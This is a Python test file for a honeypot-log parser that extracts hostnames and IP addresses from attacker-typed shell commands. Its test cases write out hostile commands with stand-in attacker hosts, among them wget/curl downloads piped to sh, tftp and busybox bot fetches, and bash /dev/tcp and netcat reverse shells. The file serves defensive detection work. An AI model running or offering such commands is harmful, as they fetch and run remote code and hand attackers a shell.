"""The hosts in what attackers type, which may be any text at all."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dnsvigil.sources.honeypots.hosts import MAX_HOSTS, hosts_in_command, hosts_in_url


@pytest.mark.parametrize(
    ("command", "hosts"),
    [
        ("cd /tmp; wget http://a.evil-x.com/x.sh -O- | sh", "a.evil-x.com"),
        ("wget -O x.sh -q a.evil-x.com/x.sh", "a.evil-x.com"),
        ("curl -o y.sh -A agent.com a.evil-x.com:8080/y", "a.evil-x.com"),
        ("(curl one-x.com||wget two-x.com)&&sh", "one-x.com two-x.com"),
        ("wget http://user:secret@192.88.99.9:8080/a.x86; chmod 777 a.x86", "192.88.99.9"),
        ("tftp -g -l x -r bot.sh 192.88.99.9", "192.88.99.9"),
        ("tftp c2.evil-x.com -c get bot.sh", "c2.evil-x.com"),
        ("/bin/busybox ftpget -u a -p b 192.88.99.9 x.sh y.sh", "192.88.99.9"),
        ("bash -i >& /dev/tcp/c2.evil-x.com/4444 0>&1", "c2.evil-x.com"),
        ("nc -e /bin/sh c2.evil-x.com 99", "c2.evil-x.com"),
        ("curl 'HTTP://Evil-X.COM./x'", "evil-x.com"),
        ("curl http://[2001:db8::1]/x", "2001:db8::1"),
        ("curl http://[::ffff:192.88.99.9]/x http://[dead::1/", "192.88.99.9"),
        ("wget 3227017993/x; wget 0xc0586309/x", "192.88.99.9"),
        ("wget http://bücher-x.de/", "xn--bcher-x-n2a.de"),
        ("echo wget; uname -a; ./bot.sh; cat evil-x.com", ""),
        ("wget localhost/x; wget -V; curl", ""),
    ],
)
def test_hosts_are_taken_where_a_program_takes_them(command: str, hosts: str) -> None:
    assert hosts_in_command(command) == hosts.split()


def test_there_are_only_so_many_of_one_command() -> None:
    assert len(hosts_in_command("; ".join(f"wget h{number}.evil-x.com" for number in range(100)))) == MAX_HOSTS


@given(
    st.text() | st.builds("wget http://{}/".format, st.text()) | st.builds("tftp {} {}".format, st.text(), st.text())
)
def test_any_text_gives_names_and_addresses_or_nothing(text: str) -> None:
    for host in [*hosts_in_command(text), *hosts_in_url(text)]:
        assert host.isascii() and ("." in host or ":" in host) and not set(host) & set(" /@'\"")
